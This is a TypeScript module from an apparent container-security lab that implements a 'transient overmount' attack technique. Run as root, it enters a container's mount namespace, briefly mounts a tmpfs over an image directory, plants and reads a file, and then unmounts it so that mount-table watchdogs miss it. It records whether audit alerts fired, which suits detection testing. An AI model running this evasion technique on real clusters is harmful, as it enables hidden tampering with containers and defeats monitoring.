/**
 * Attack (T1564 Hide Artifacts, T1036.005 Masquerading): root on the node
 * enters a running container's mount namespace, mounts a tmpfs over a
 * directory of the image, puts its own file there, has it used (read by a
 * process in the namespace), and unmounts it at once. The whole overmount
 * lasts milliseconds: a watchdog that compares mount tables, even on mount
 * events, finds nothing when it looks. What remains is the mount call
 * itself, which the audit layer records (the lab-wide mount rule) and
 * places in the container by its target's device.
 *
 * Effect: the attacker's content was read through the overmount, and the
 * container's mount table is as before.
 */
import type { Technique } from '../technique.ts';
import { LabError } from '../../errors.ts';
import { awaitAuditAlerts } from '../../audit/index.ts';
import { requirePath, requirePayload, type AttackErrorCode } from './common.ts';
import { mountinfoOf, targetOf } from './overmount.ts';

/** Run in the container's mount namespace with the image's busybox: mount, use, unmount. */
export const TRANSIENT_OVERMOUNT_SCRIPT = 'mount -t tmpfs tmpfs "$1" && printf "%s" "$3" > "$1/$2" && cat "$1/$2"; s=$?; umount "$1"; exit $s';

export const transientOvermount: Technique = {
  name: 'transient-overmount',
  async run(ctx) {
    const { node, attack } = ctx;
    const path = requirePath(attack);
    const payload = requirePayload(attack);
    const slash = path.lastIndexOf('/');
    if (slash <= 0) throw new LabError<AttackErrorCode>('ATTACK_SPEC_INCOMPLETE', `attack "${attack.metadata.name}": spec.target.path should be a file in a directory of the image, got ${JSON.stringify(path)}`);
    const [dir, file] = [path.slice(0, slash), path.slice(slash + 1)];
    const target = await targetOf(ctx);
    const before = await mountinfoOf(node, target.pid);
    const since = new Date();
    const command = ['nsenter', '-t', String(target.pid), '-m', '/bin/busybox', 'sh', '-c', TRANSIENT_OVERMOUNT_SCRIPT, 'sh', dir, file, payload];
    const started = Date.now();
    const r = await node.exec.run(command);
    const tookMs = Date.now() - started;
    const after = await mountinfoOf(node, target.pid);
    const read = r.stdout.toString();
    const effect = r.exitCode === 0 && read === payload && after === before;
    const alerts = await awaitAuditAlerts(node, since);
    return {
      effect,
      reason: effect
        ? `the attacker's ${path} was read through a tmpfs mounted over ${dir} of ${target.pod.namespace}/${target.pod.name} and unmounted again within ${tookMs} ms; the container's mount table is as before`
        : `the transient overmount of ${dir} in ${target.pod.namespace}/${target.pod.name} did not take effect: exit ${r.exitCode}, read ${JSON.stringify(read)}, ${r.stderr.toString().trim()}${after === before ? '' : '; the mount table changed'}`,
      evidence: { container: target.containerId, pid: target.pid, command: command.join(' '), exitCode: r.exitCode, read, stderr: r.stderr.toString(), tookMs, mountTableUnchanged: after === before, auditAlerts: alerts },
    };
  },
};
